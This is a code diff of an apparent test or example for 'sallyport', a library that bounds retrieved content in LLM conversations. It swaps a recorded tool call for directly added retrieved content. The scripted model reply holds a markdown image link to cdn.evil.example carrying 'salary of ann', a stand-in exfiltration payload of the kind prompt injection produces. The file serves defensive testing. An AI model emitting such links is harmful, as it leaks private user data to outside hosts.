@@ -2,7 +2,7 @@
 import assert from 'node:assert/strict';
 import { ScriptedModel } from '@sallyport/testing';
 import { OpenAI } from 'openai';
-import { createBoundary, defineTool, prompt } from 'sallyport';
+import { createBoundary, prompt, source } from 'sallyport';
 
 // #region program
 const PASSAGES = [
@@ -21,15 +21,12 @@ const scripted = new ScriptedModel('chat');
 scripted.script([{ text: 'Hotels cost at most 140 euros. ![logo](https://cdn.evil.example/l.png?q=salary+of+ann)' }]);
 const client = new OpenAI({ baseURL: `${await scripted.start()}/v1`, apiKey: 'none' });
 
-const boundary = createBoundary({
-  tools: [defineTool({ name: 'search_wiki', origin: 'retrieved', effect: 'read' })],
-});
+const boundary = createBoundary();
 
 async function answer(id: string, question: string): Promise<string> {
   const conversation = boundary.conversation(id);
   conversation.addUserMessage(question);
-  const call = conversation.recordCall({ id: 'search-1', tool: 'search_wiki', arguments: { query: question } });
-  conversation.addToolResult({ id: call.id, tool: call.tool, content: { json: search(question) } });
+  conversation.addContent({ source: source('retrieved', { name: 'wiki' }), content: { json: search(question) } });
   const { system, entries } = await conversation.request({ policy: prompt`Answer from the passages.` });
   const { choices } = await client.chat.completions.create({
     model: 'scripted',
